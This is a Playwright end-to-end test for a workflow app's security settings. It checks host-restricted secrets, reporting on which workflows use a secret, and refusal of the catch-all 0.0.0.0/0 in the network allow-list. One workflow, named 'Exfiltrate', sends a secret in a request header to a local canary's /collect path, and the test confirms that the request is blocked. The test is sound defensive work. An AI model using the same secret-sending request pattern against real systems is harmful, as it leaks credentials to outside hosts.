import { expect, test } from "@playwright/test";
import { startCountingServer } from "../fixtures/counting-server";
import { signUp } from "./helpers";

/**
 * An admin's security settings as a user meets them: a secret names the hosts it may be sent to
 * (a URL is refused with a hint), a workflow that sends it elsewhere fails before anything leaves,
 * the Secrets page says which workflow uses it, and the network allow-list refuses catch-alls.
 */
test("a secret goes only to its allowed hosts; the Secrets page shows who uses it; the allow-list refuses catch-alls", async ({ page }) => {
  const canary = await startCountingServer();
  canary.on("/collect", { body: { ok: true } });
  try {
    await signUp(page, "E2E Security", `e2e-security-${Date.now()}@example.test`);

    // Settings → Secrets: a URL is not a host; a host is.
    await page.goto("/settings/secrets");
    await page.getByTestId("create-secret").click();
    const dialog = page.getByRole("dialog");
    await dialog.getByLabel("Name").fill("E2E_KEY");
    await dialog.getByLabel("Value").fill("e2e-secret-value-4242");
    await dialog.getByLabel("Allowed hosts").fill("https://api.example.com/v1");
    await dialog.getByRole("button", { name: "Create secret" }).click();
    await expect(dialog).toContainText("enter only its host");
    await dialog.getByLabel("Allowed hosts").fill("api.example.com");
    await dialog.getByRole("button", { name: "Create secret" }).click();
    await expect(dialog).toBeHidden();
    const row = page.getByTestId("secret-row").filter({ hasText: "E2E_KEY" });
    await expect(row).toContainText("api.example.com");
    await expect(row).toContainText("Not used");

    // A workflow that sends the secret to another host: the step fails and the canary receives nothing.
    const graph = {
      version: 1,
      nodes: [
        { id: "start", type: "start", position: { x: 0, y: 0 }, data: { inputs: [] } },
        {
          id: "leak",
          type: "http",
          position: { x: 300, y: 0 },
          data: { method: "GET", url: `${canary.url}/collect`, headers: [{ key: "X-Key", value: "{{ secrets.E2E_KEY }}" }] },
        },
        { id: "end", type: "end", position: { x: 600, y: 0 }, data: { outputs: [{ name: "status", value: "{{ leak.status }}" }] } },
      ],
      edges: [
        { id: "e1", source: "start", target: "leak" },
        { id: "e2", source: "leak", target: "end" },
      ],
    };
    const created = await page.request.post("/api/workflows", { data: { name: "Exfiltrate", graph } });
    expect(created.ok()).toBe(true);
    const workflow = (await created.json()) as { id: string };
    const started = await page.request.post(`/api/workflows/${workflow.id}/runs`, { data: { inputs: {} } });
    expect(started.ok()).toBe(true);
    const { runId } = (await started.json()) as { runId: string };
    await page.goto(`/runs/${runId}`);
    const step = page.getByTestId("step-leak");
    await expect(step).toHaveAttribute("data-status", "failed", { timeout: 60_000 });
    await step.locator("summary").click();
    await expect(step).toContainText("may not be sent to");
    expect(canary.count("/collect")).toBe(0);

    // The Secrets page names the workflow (and node) that uses the secret.
    await page.goto("/settings/secrets");
    await expect(page.getByTestId("secret-row").filter({ hasText: "E2E_KEY" })).toContainText("Exfiltrate");

    // Settings → Network: a catch-all is refused with the reason; a single host:port is saved.
    await page.goto("/settings/network");
    const allowList = page.getByLabel("Allow-list");
    await allowList.fill("0.0.0.0/0");
    await page.getByRole("button", { name: "Save allow-list" }).click();
    await expect(page.getByTestId("allow-list-status")).toContainText("0.0.0.0/0");
    await expect(page.getByTestId("allow-list-status")).not.toContainText("Saved");
    await allowList.fill("127.0.0.1:4010");
    await page.getByRole("button", { name: "Save allow-list" }).click();
    await expect(page.getByTestId("allow-list-status")).toHaveText("Saved (1 entries).");
  } finally {
    await canary.close();
  }
});
